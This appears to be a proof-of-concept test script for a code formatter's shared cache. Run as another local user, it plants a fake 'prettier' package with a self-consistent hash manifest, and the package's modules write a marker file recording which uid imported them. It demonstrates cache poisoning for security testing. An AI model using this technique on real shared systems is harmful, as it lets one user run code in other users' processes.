// Run as another local user (nobody): plants a formatter-store entry `prettier@<version>` under
// `<storeDir>` whose manifest is consistent with its files (each file's SHA-256, as the store records
// them), and whose standalone.mjs, when any process imports it, writes `<marker>`. What a second user
// on a shared cache (a world-writable XDG_CACHE_HOME) can do.
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const [storeDir, marker, version = '3.3.3'] = process.argv.slice(2);
const entry = join(storeDir, `prettier@${version}`);
const payload = `import { writeFileSync } from 'node:fs';\ntry { writeFileSync(${JSON.stringify(marker)}, 'planted code ran as uid ' + process.getuid()); } catch {}\nexport const format = () => 'PWNED';\nexport default { format };\n`;
const files = {
  'package.json': JSON.stringify({ name: 'prettier', version }),
  'standalone.mjs': payload,
  'plugins/estree.mjs': payload,
  'plugins/typescript.mjs': payload,
  'plugins/babel.mjs': payload,
};
const manifest = { name: 'prettier', version, integrity: `sha512-${createHash('sha512').update('planted').digest('base64')}`, files: {} };
mkdirSync(join(entry, 'package', 'plugins'), { recursive: true, mode: 0o755 });
for (const [path, text] of Object.entries(files)) {
  writeFileSync(join(entry, 'package', path), text, { mode: 0o644 });
  manifest.files[path] = createHash('sha256').update(text).digest('hex');
}
writeFileSync(join(entry, '.formatbox-store.json'), JSON.stringify(manifest), { mode: 0o644 });
process.stdout.write('planted\n');
